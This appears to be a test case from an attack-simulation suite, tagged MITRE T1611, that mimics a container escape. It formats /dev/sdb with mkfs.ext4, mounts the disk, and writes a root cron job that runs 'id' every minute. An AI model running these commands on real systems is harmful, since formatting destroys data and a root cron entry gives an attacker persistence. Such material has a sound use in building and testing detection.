# title: The disk of the host is mounted by hand and its cron changed
# technique: T1611
# needs: mount mkfs.ext4
# disk: yes

mkfs.ext4 -q /dev/sdb && mkdir -p /mnt/host 2>/dev/null; mkdir -p /tmp/h
mount /dev/sdb /tmp/h && mkdir -p /tmp/h/etc/cron.d && echo '* * * * * root id' >/tmp/h/etc/cron.d/x
umount /tmp/h
